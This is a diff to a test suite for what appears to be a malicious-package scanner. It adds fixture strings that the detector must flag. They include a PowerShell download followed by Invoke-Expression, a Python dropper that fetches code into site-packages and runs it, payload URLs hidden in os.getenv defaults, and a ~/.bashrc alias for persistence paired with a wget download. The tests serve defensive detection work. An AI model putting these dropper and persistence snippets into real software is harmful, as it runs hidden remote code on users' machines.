@@ -88,6 +88,14 @@ test('a PowerShell script that downloads and then Start-Process the file is down
     ].join('\n'),
   );
   assert.equal(ruleOf(list, 'download-execute')?.severity, 'high');
+  const evaluated = findings(
+    'import os\nos.system(\'powershell Invoke-WebRequest -Uri "https://files.example/u.exe" -OutFile "~/u.exe"; Invoke-Expression "~/u"\')\n',
+  );
+  assert.equal(
+    ruleOf(evaluated, 'download-execute')?.severity,
+    'critical',
+    'Invoke-Expression of the download, on import',
+  );
 });
 
 test('a program whose name the file never writes (decoded at run time) is high, even when only called', () => {
@@ -116,7 +124,9 @@ test("a network tool sent the user's identity through shell substitutions is a r
     'import subprocess\ndef get():\n    subprocess.run(["curl", "-O", "https://files.example/a.tgz"])\n',
   );
   assert.equal(ruleOf(fetch, 'process-network-tool')?.severity, 'low', 'a download a user asks for is a capability');
-  const paste = findings('import subprocess\ndef get():\n    subprocess.run(["curl", "-O", "https://pastebin.com/raw/x1"])\n');
+  const paste = findings(
+    'import subprocess\ndef get():\n    subprocess.run(["curl", "-O", "https://pastebin.com/raw/x1"])\n',
+  );
   assert.equal(ruleOf(paste, 'process-network-tool')?.severity, 'medium');
 });
 
@@ -636,4 +646,60 @@ test('ping with data, rclone and cloud copy commands reach the network', () => {
     );
     assert.ok(found, command);
   }
+});
+
+test('a setting read with os.getenv(name, default) is its default: the collector or payload URL it hides', () => {
+  const hidden = findings(
+    'import os, requests\nURL = os.getenv("API_URL", "https://files.example/stage2.py")\ndef get():\n    return requests.get(URL).text\n',
+  );
+  assert.equal(ruleOf(hidden, 'egress-network-call')?.destination?.url, 'https://files.example/stage2.py');
+  const environ = findings(
+    'import os, requests\ndef get():\n    return requests.get(os.environ.get("U", "http://192.0.2.4/x"))\n',
+  );
+  assert.equal(ruleOf(environ, 'egress-network-call')?.destination?.host, '192.0.2.4');
+});
+
+test('Python code fetched in one function and the interpreter started on a script named at run time is a dropper', async () => {
+  const fetchAndRun = {
+    'pkg/core.py': [
+      'import os, sys, site, subprocess, requests',
+      'def _fetch():',
+      '    code = requests.get("https://files.example/helper.py").text',
+      '    path = os.path.join(site.getsitepackages()[0], os.getenv("N", ".helper.py"))',
+      '    open(path, "w").write(code)',
+      '    return path',
+      'def run(data):',
+      '    subprocess.Popen([sys.executable, _fetch(), data], stdout=subprocess.DEVNULL)',
+    ].join('\n'),
+  };
+  const dropped = await analyseTarget(fetchAndRun);
+  assert.ok(
+    dropped.reasons.some((reason) => /^downloads Python code .* starts the interpreter/.test(reason)),
+    dropped.reasons.join(' | '),
+  );
+  assert.equal(dropped.risk, 'high');
+  // a script the package names itself, or a .py fetched and never run, is not that join
+  const named = await analyseTarget({
+    'pkg/core.py':
+      'import sys, subprocess, requests\ndef get():\n    return requests.get("https://files.example/helper.py").text\ndef run():\n    subprocess.run([sys.executable, "-m", "pkg.tool"])\n',
+  });
+  assert.ok(!named.reasons.some((reason) => /^downloads Python code/.test(reason)), named.reasons.join(' | '));
+});
+
+test("lines of ~/.bashrc read, edited and written back by a function that also downloads are a dropper's persistence", () => {
+  const source = (download: string) =>
+    [
+      'import os',
+      'def install():',
+      '    rc = os.path.expanduser("~/.bashrc")',
+      '    lines = open(rc).readlines()',
+      '    lines.append("alias ls=\'python ~/.cache/.l.py\'\\n")',
+      '    with open(rc, "w") as f:',
+      '        f.writelines(lines)',
+      download,
+    ].join('\n');
+  const dropper = findings(source('    os.system("wget -O ~/.cache/.l.py https://files.example/l.txt")'));
+  assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
+  const editor = findings(source('    print("done")'));
+  assert.equal(ruleOf(editor, 'persistence')?.severity, 'low', "an editor of the user's start-up file, when called");
 });
